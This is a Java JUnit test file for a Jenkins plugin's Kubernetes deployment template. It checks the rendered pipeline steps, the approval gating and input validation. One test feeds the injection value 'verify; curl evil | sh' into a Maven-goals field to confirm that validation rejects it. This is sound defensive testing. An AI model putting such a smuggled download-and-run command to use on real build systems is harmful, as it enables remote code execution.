package io.jenkins.plugins.skylark.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import io.jenkins.plugins.skylark.template.InvalidValuesException;
import io.jenkins.plugins.skylark.template.ScriptFacts;
import io.jenkins.plugins.skylark.template.TemplateDescriptor;
import io.jenkins.plugins.skylark.template.TemplateEngine;

import org.junit.jupiter.api.Test;

class JavaServiceKubernetesTest {

    private final TemplateDescriptor template = Catalogue.TEMPLATES.get("java-service-kubernetes").orElseThrow();

    @Test
    void shouldDeployOnceAndReportOnTheFirstEnvironmentWithoutPromotion() {
        String text = render(Map.of());

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("checkout", "sh", "platformImage",
                "platformDeploy", "deliveryReport", "archiveArtifacts").doesNotContain("input")
                .containsOnlyOnce("platformDeploy");
        assertThat(text).contains("deliveryReport(format: 'html', application: 'orders', environment: 'dev',");
    }

    @Test
    void shouldAskForApprovalBeforeDeployingToTheSecondEnvironment() {
        String text = render(Map.of("promote", true, "approvers", "ops", "secondEnvironment", "prod"));

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("platformDeploy",
                "timeout", "input", "withPlatform", "platformDeploy", "deliveryReport");
        assertThat(text).contains("stage('Deploy to prod')", "submitter: 'ops'",
                "deliveryReport(format: 'html', application: 'orders', environment: 'prod',");
    }

    @Test
    void shouldNotAskForTheSecondEnvironmentWithoutPromotion() {
        assertThat(TemplateEngine.validate(template, values(Map.of("secondEnvironment", "Not A Name")))
                .isShown("secondEnvironment")).isFalse();
        assertThat(errors(Map.of("promote", true, "secondEnvironment", "Not A Name")))
                .singleElement().asString().startsWith("secondEnvironment: \"Not A Name\" does not match");
    }

    @Test
    void shouldKeepShellAndNameMetacharactersOutOfTheValues() {
        assertThat(errors(Map.of("mavenGoals", "verify; curl evil | sh", "application", "Orders_1")))
                .extracting(message -> message.substring(0, message.indexOf(':')))
                .containsExactlyInAnyOrder("mavenGoals", "application");
    }

    @Test
    void shouldTellAnEditorWhichTasksAFieldFeeds() {
        assertThat(template.tasksFedBy("secondEnvironment"))
                .containsExactly("deploy-second/deploy", "report/report-second");
        assertThat(template.stages().get(2).tasks().get(0).exports()).containsExactly("PLATFORM_IMAGE");
    }

    private String render(Map<String, ?> extra) {
        return TemplateEngine.render(template, values(extra)).text();
    }

    private List<String> errors(Map<String, ?> extra) {
        try {
            TemplateEngine.validate(template, values(extra));
        } catch (InvalidValuesException e) {
            return e.errors().stream().map(error -> error.message(Locale.ENGLISH)).toList();
        }
        throw new AssertionError("accepted " + extra);
    }

    private static Map<String, Object> values(Map<String, ?> extra) {
        Map<String, Object> values = new HashMap<>(Map.of("project", "shop", "application", "orders"));
        values.putAll(extra);
        return values;
    }
}
